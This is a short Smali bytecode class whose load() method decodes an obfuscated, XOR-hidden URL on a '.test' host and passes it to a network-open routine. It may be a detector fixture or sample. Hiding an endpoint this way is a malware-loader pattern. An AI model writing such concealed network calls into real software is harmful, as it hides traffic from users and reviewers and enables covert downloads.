.class public Lkc/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    sget-object v1, Lkc/Dec;->Companion:Lkc/Dec$Companion;
    const-string v0, "DXX\u005c_\u0016\u0003\u0003OCA\u005cMBECB\u0002_DC\u005c\u0002XI_X\u0003Z\u001d\u0003CNFIOX"
    invoke-virtual {v1, v0}, Lkc/Dec$Companion;->a(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lkc/Net;->open(Ljava/lang/String;)V
    return-void
.end method

